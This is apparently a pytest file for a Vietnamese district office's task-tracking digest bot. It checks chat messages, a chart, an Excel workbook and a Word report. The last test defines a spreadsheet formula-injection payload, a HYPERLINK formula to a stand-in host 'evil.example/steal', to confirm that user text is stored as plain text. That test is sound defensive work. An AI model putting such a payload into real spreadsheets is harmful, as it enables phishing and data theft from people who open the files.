"""The digest as people get it: the message, and files that open again in their own libraries."""

import html
import re
import struct
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from docx import Document
from openpyxl import load_workbook

from bot.digest.chart import chart, write_chart
from bot.digest.report import official_date, write_report
from bot.digest.text import PLAIN, Format, message, split_lines, utf16_len
from bot.digest.workbook import write_workbook
from bot.service import App
from scheduler.digest_figures import Figures
from scheduler.digest_periods import report_periods
from storage.db import transaction
from storage.models import Unit
from tests.digest_kit import (
    HT,
    NV,
    PD,
    TP,
    WEEK1,
    WEEK2,
    World,
    add_plan,
    add_support,
    add_task,
    add_unit,
    build,
)
from tests.test_digest import figures_at, store

pytestmark = pytest.mark.backends("sqlite", "postgresql")

TELEGRAM = Format(html=True, limit=4096)
ZALO = Format(html=False, limit=2000)

HALF_YEAR = report_periods(2023)[1]


@pytest.fixture
async def week2(app: App) -> Figures:
    await build(app)
    await store(app, await figures_at(app, WEEK1))
    return await figures_at(app, WEEK2)


def png_size(path: Path) -> tuple[int, int]:
    data = path.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n" and data[12:16] == b"IHDR"
    return struct.unpack(">II", data[16:24])


async def test_the_message_opens_as_the_sketch_does(week2: Figures) -> None:
    (text,) = message(week2, ZALO)
    assert text.splitlines()[:6] == [
        "📋 TỔNG HỢP TUẦN 26/06–30/06/2023 — Kế hoạch 32/KH-UBND",
        # Tasks: none is done by all its lead units yet (3 of the 9 lead assignments are).
        "Hoàn thành 0/4 nhiệm vụ (0%, +0 so với tuần trước).",
        "Đang thực hiện 1 · Vướng mắc 1 · Xin gia hạn 1 · Chưa thực hiện 1 · Quá hạn 2",
        "Đơn vị chưa phản hồi 14 ngày: UBND xã Phúc Đồng, UBND xã Hương Trà.",
        "(Biểu đồ và tệp Excel chi tiết gửi kèm.)",
        "",
    ]
    assert f"1. 1.1 Nhiệm vụ 1.1 của kế hoạch — {HT} — quá 11 ngày làm việc" in text
    assert f'• 1.2 Nhiệm vụ 1.2 của kế hoạch — {NV}: "chưa có kinh phí"' in text
    assert f"Không liên lạc được: {NV}." in text and f"Chưa có đầu mối: {HT}." in text
    assert f"• 2.2 Nhiệm vụ 2.2 của kế hoạch — {PD} — hạn 05/07" in text


async def test_telegram_gets_bold_and_escaped_html(week2: Figures, app: App) -> None:
    (html,) = message(week2, TELEGRAM)
    assert html.startswith("<b>📋 TỔNG HỢP TUẦN 26/06–30/06/2023 — Kế hoạch 32/KH-UBND</b>\n")
    assert "<b>Quá hạn 2</b>" in html and "<b>Theo lĩnh vực</b>" in html
    async with transaction(app.sessions) as session:  # a name that HTML must not swallow
        unit = await session.get(Unit, 1)
        unit.name = "Phòng <Tư pháp> & Hộ tịch"
    (escaped,) = message(await figures_at(app, WEEK2), TELEGRAM)
    assert "Phòng &lt;Tư pháp&gt; &amp; Hộ tịch" in escaped and "<Tư pháp>" not in escaped


def test_long_text_splits_between_lines_and_loses_nothing() -> None:
    lines = [f"dòng {n} " + "x" * 50 for n in range(200)]
    parts = split_lines(lines, 500)
    assert len(parts) > 1 and all(utf16_len(p) <= 500 for p in parts)
    assert "\n".join(parts).splitlines() == lines
    words = " ".join(f"từ{n}" for n in range(300))  # one line longer than a part: cut at spaces
    pieces = split_lines([words], 300)
    assert all(utf16_len(p) <= 300 for p in pieces) and " ".join(pieces) == words


async def test_the_chart_is_a_real_picture(week2: Figures, tmp_path: Path) -> None:
    path = write_chart(week2, tmp_path / "chart.png")
    width, height = png_size(path)
    assert width == 1000 and 300 <= height <= 2000


def _texts_placed(figures: Figures) -> tuple[list[tuple[str, Any]], Any]:
    """Every text the chart shows that is not empty, as boxes in pixels, and the picture's."""
    from matplotlib.text import Text

    fig = chart(figures)
    renderer = fig.canvas.get_renderer()  # type: ignore[attr-defined]
    fig.draw(renderer)
    found = [*fig.texts, *(fig.legends[0].get_texts() if fig.legends else [])]
    for ax in fig.axes:
        found += [child for child in ax.get_children() if isinstance(child, Text)]  # titles
        if ax.axison:  # an empty chart has no axes drawn
            found += [ax.xaxis.label, *ax.get_xticklabels(), *ax.get_yticklabels()]
    shown = [text for text in found if text.get_visible() and text.get_text()]
    return [(text.get_text(), text.get_window_extent(renderer)) for text in shown], fig.bbox


@pytest.mark.parametrize("case", ["as built", "long names", "nothing yet"])
async def test_every_text_of_the_chart_is_inside_the_picture_and_apart(
    week2: Figures, case: str
) -> None:
    figures = week2
    if case == "long names":  # cut at 42 characters: the names' column is as wide as needed
        long = [replace(u, name=f"UBND xã có tên rất dài số {u.key} " * 3) for u in week2.units]
        figures = replace(
            week2, units=tuple(long), areas=(replace(week2.areas[0], name="Lĩnh vực"),)
        )
    elif case == "nothing yet":
        figures = replace(week2, units=(), areas=())
    boxes, picture = _texts_placed(figures)
    assert len(boxes) >= 5  # the title, two charts' titles, their bars' notes or emptiness
    for text, box in boxes:
        assert picture.x0 <= box.x0 and box.x1 <= picture.x1, text
        assert picture.y0 <= box.y0 and box.y1 <= picture.y1, text
    overlapping = [
        (a, b)
        for i, (a, one) in enumerate(boxes)
        for b, other in boxes[i + 1 :]
        if one.overlaps(other)
    ]
    assert not overlapping


async def test_the_workbook_holds_every_sheet_with_real_dates(
    week2: Figures, tmp_path: Path
) -> None:
    book = load_workbook(write_workbook(week2, tmp_path / "digest.xlsx"))
    assert book.sheetnames == [
        "Tổng hợp",
        "Theo lĩnh vực",
        "Theo đơn vị",
        "Quá hạn",
        "Vướng mắc",
        "Đến hạn tuần tới",
        "Đơn vị cần chú ý",
        "Đơn vị phối hợp",
    ]
    units = book["Theo đơn vị"]
    assert [c.value for c in units[1]][:4] == [
        "Xếp hạng",
        "Đơn vị chủ trì",
        "Tổng số",
        "Hoàn thành đúng hạn",
    ]
    assert [c.value for c in units[2]] == [1, TP, 3, 2, 0, 0, 0, 0, 1, 1, 66.7, 1]
    assert units.freeze_panes == "A2" and units.auto_filter.ref == "A1:L5"
    assert units.column_dimensions["B"].width == 40
    overdue = book["Quá hạn"]
    deadline = overdue["F2"]
    assert deadline.value.date() == date(2023, 6, 15) and deadline.is_date  # Excel: naive
    assert deadline.number_format == "DD/MM/YYYY"
    assert [c.value for c in overdue[2]][6:8] == [15, 11]
    summary = {row[0].value: row[1].value for row in book["Tổng hợp"].iter_rows(min_row=2)}
    assert summary["Số liệu đến"].isoformat() == "2023-06-30T15:00:00"
    assert (summary["Số nhiệm vụ"], summary["Hoàn thành quá hạn"]) == (4, 0)  # tasks
    assert (summary["Số lượt giao chủ trì"], summary["Lượt chủ trì đã hoàn thành"]) == (9, 3)
    assert summary["Số lượt phối hợp"] == 0
    blockers = book["Vướng mắc"]
    assert blockers["G2"].value == "chưa có kinh phí" and blockers["F2"].is_date


async def test_the_report_is_laid_out_as_decree_30_asks(week2: Figures, tmp_path: Path) -> None:
    path = write_report(week2, HALF_YEAR, tmp_path / "bao-cao.docx", dated=date(2023, 6, 16))
    doc = Document(str(path))
    head = doc.tables[0]
    assert head.cell(0, 0).text.splitlines()[:2] == ["UBND HUYỆN HƯƠNG KHÊ", "PHÒNG NỘI VỤ"]
    nation, motto = head.cell(0, 1).paragraphs[:2]
    assert nation.text == "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"
    assert motto.text == "Độc lập - Tự do - Hạnh phúc" and motto.runs[0].underline
    assert head.cell(1, 0).text.startswith("Số:") and head.cell(1, 0).text.endswith("/BC-NV")
    place = head.cell(1, 1).paragraphs[0]
    assert place.text == "Hương Khê, ngày 16 tháng 6 năm 2023" and place.runs[0].italic
    texts = [p.text for p in doc.paragraphs]
    assert "BÁO CÁO" in texts
    assert (
        "Kết quả thực hiện Kế hoạch số 32/KH-UBND ngày 24/02/2023 của UBND huyện Hương Khê về "
        "khắc phục những tồn tại, hạn chế trong công tác cải cách hành chính năm 2022, "
        "6 tháng đầu năm 2023"
    ) in texts
    assert "2.1. Công tác chỉ đạo, điều hành CCHC" in texts
    assert any(t.startswith("- Nhiệm vụ 1.1:") and HT in t for t in texts)
    assert "Nơi nhận:" in doc.tables[-1].cell(0, 0).text
    assert "TRƯỞNG PHÒNG" in doc.tables[-1].cell(0, 1).text
    fonts = {run.font.name for p in doc.paragraphs for run in p.runs}
    assert fonts == {"Times New Roman"} and doc.styles["Normal"].font.name == "Times New Roman"
    section = doc.sections[0]
    margins = (section.page_width, section.left_margin, section.right_margin, section.top_margin)
    assert [round(m.mm) for m in margins] == [210, 30, 15, 20]


async def test_supporting_units_show_apart_in_the_message_and_the_workbook(
    app: App, tmp_path: Path
) -> None:
    world = await build(app)
    await add_support(app, world)
    f = await figures_at(app, WEEK2)
    (text,) = message(f, ZALO)
    assert text.splitlines()[1] == "Hoàn thành 1/5 nhiệm vụ (20%)."
    assert "Theo đơn vị chủ trì (lượt giao, xếp theo tỉ lệ hoàn thành)" in text
    assert f"1. {TP} — 3/4 lượt (75%)" in text
    lines = text.splitlines()
    at = lines.index("Đơn vị phối hợp (không tính xếp hạng)")
    assert lines[at + 1] == "3 lượt phối hợp của 3 đơn vị: đã hoàn thành 1, chưa hoàn thành 2."
    assert f"{PD} — quá" not in text  # supporting Phúc Đồng's late 1.1 is not on the list
    book = load_workbook(write_workbook(f, tmp_path / "digest.xlsx"))
    rows = [[c.value for c in row][:4] for row in book["Đơn vị phối hợp"].iter_rows(min_row=2)]
    assert rows == [[1, TP, 1, 1], [2, HT, 1, 0], [3, PD, 1, 0]]
    summary = {row[0].value: row[1].value for row in book["Tổng hợp"].iter_rows(min_row=2)}
    assert (summary["Số lượt phối hợp"], summary["Lượt phối hợp đã hoàn thành"]) == (3, 1)
    report = write_report(f, HALF_YEAR, tmp_path / "bao-cao.docx", dated=date(2023, 7, 14))
    texts = [p.text for p in Document(str(report)).paragraphs]
    assert (
        "Kế hoạch có 5 nhiệm vụ, giao chủ trì 10 lượt cho 4 đơn vị (và 3 lượt phối hợp của 3 "
        "đơn vị). Đến ngày 14/06/2023, đã hoàn thành 1/5 nhiệm vụ (20%), trong đó 1 nhiệm vụ "
        "đúng hạn, 0 nhiệm vụ quá hạn; các đơn vị chủ trì hoàn thành 4/10 lượt, trong kỳ báo "
        "cáo hoàn thành 0 lượt."
    ) in texts


def test_official_dates_pad_small_days_and_early_months() -> None:
    assert official_date(date(2023, 2, 5)) == {"day": "05", "month": "02", "year": "2023"}
    assert official_date(date(2023, 11, 24)) == {"day": "24", "month": "11", "year": "2023"}


async def test_five_hundred_units_stay_within_each_channel(app: App, tmp_path: Path) -> None:
    world = World()
    names = [f"UBND xã Hương Sơn Thượng Số {n:03d} (đơn vị thử nghiệm dài)" for n in range(500)]
    async with transaction(app.sessions) as session:
        await add_plan(session, world)
        for name in names:
            await add_unit(session, world, name)
        await add_task(session, world, "1.1", 1, date(2023, 6, 1), names)
        await add_task(session, world, "2.1", 2, date(2023, 7, 4), names[::2])
    figures = await figures_at(app, WEEK2)
    # Nobody is registered for these units: each is listed once, as having no focal person.
    assert (
        (figures.tasks, figures.lead.total) == (2, 750)
        and len(figures.no_focal) == 500
        and not figures.silent
    )
    for fmt in (TELEGRAM, ZALO):
        parts = message(figures, fmt)
        assert all(0 < utf16_len(p) <= fmt.limit for p in parts)
    plain = message(figures, PLAIN)[0].splitlines()
    for fmt in (TELEGRAM, ZALO):  # split, never cut: the same lines in the same order
        split = [
            html.unescape(re.sub("</?b>", "", line))
            for part in message(figures, fmt)
            for line in part.splitlines()
            if line
        ]
        assert split == [line for line in plain if line]
    assert len(message(figures, ZALO)) > 1
    (no_focal,) = [line for line in plain if line.startswith("Chưa có đầu mối:")]
    assert no_focal.endswith("và 490 đơn vị khác.")  # a long list of names is summed up
    width, height = png_size(write_chart(figures, tmp_path / "many.png"))
    assert width == 1000 and height < 2000


# --- text from people is text (issue 11, item 7) -------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/steal","Bấm để xem")'


async def test_text_from_people_is_never_a_formula_nor_breaks_the_files(
    app: App, tmp_path: Path
) -> None:
    from sqlalchemy import update

    from storage.models import StatusUpdate, Task

    await build(app)
    async with transaction(app.sessions) as session:  # as stored before the edge cleaned it
        await session.execute(update(Task).values(title=EVIL + "\x0b\x07\x1b"))
        await session.execute(update(Unit).where(Unit.name == TP).values(name="@" + TP + "\x1b"))
        await session.execute(update(StatusUpdate).values(note="+1 chưa có\x07 kinh phí"))
    figures = await figures_at(app, WEEK2)
    book = load_workbook(write_workbook(figures, tmp_path / "digest.xlsx"))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    texts = [c for c in cells if isinstance(c.value, str)]
    assert texts and all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    assert not [c for c in cells if c.data_type == "f"]
    evil = [c for c in texts if c.value == EVIL + "\n"]  # the vertical tab: a line break
    assert {c.parent.title for c in evil} >= {"Quá hạn", "Vướng mắc", "Đến hạn tuần tới"}
    assert all(c.quotePrefix for c in evil)
    assert any(c.value == "@" + TP and c.quotePrefix for c in texts)
    assert any(c.value == "+1 chưa có kinh phí" for c in texts)
    assert not [c for c in texts if any(ch in c.value for ch in "\x0b\x07\x1b")]
    doc = Document(str(write_report(figures, HALF_YEAR, tmp_path / "bao-cao.docx")))
    body = "\n".join(p.text for p in doc.paragraphs)
    assert EVIL in body and "\x07" not in body and "\x1b" not in body
